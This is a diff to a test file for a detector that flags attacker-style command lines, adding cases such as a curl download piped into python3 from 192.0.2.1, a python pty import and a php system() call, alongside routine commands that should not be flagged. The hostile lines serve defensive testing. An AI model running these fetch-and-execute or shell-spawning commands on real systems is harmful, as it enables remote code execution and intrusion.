@@ -21,6 +21,15 @@ t.test('the forms of attackers command lines, whatever the program', async (t) =
   t.same(argumentForms('xxd -r -p'), ['encoded']);
   t.same(argumentForms('echo AAAAC3NzaC1lZDI1NTE5AAAAIKx7Fq9wD3m2Lk8pQ0rT5vY6uZ1nB4cE7hJ >> k'), ['encoded'], 'a blob');
   t.same(argumentForms(`printf ${'4f2a'.repeat(40)}`), ['encoded'], 'a hex run longer than a digest');
+  // an interpreter's option with a separate value before the code hid it (rev2)
+  t.same(argumentForms('python3 -W ignore -c import pty'), ['inline-code'], 'past -W and its value');
+  t.same(argumentForms('python3 -X utf8 -c x'), ['inline-code']);
+  t.same(argumentForms('php -d display_errors=0 -r system($x);'), ['inline-code']);
+  t.same(argumentForms('node -r fs -e x'), ['inline-code']);
+  t.same(argumentForms('bash -o pipefail -c python3 -c x'), ['inline-code'], "a shell's value option before its code");
+  // an interpreter reading its code from a pipe, as a shell does (rev2)
+  t.same(argumentForms('curl -s http://192.0.2.1/s.py | python3'), ['pipe-shell']);
+  t.same(argumentForms('curl -s http://192.0.2.1/s.py | python3 -'), ['pipe-shell']);
 });
 
 t.test('routine command lines have no form', async (t) => {
@@ -37,6 +46,10 @@ t.test('routine command lines have no form', async (t) => {
     '/usr/lib/python3/dist-packages/SomeVeryLongModuleName/SubPackage2/AnotherModule3/x.py',
     'base64 -w0 report.pdf',
     'python3 script.py -c config.yml',
+    // piped into a script or into a shell given its code, not code from the pipe (rev2)
+    'cat hosts | bash ./check.sh',
+    'ls | xargs sh -c echo',
+    'python3 -m http.server',
     '',
   ])
     t.same(argumentForms(line), [], line.slice(0, 60));
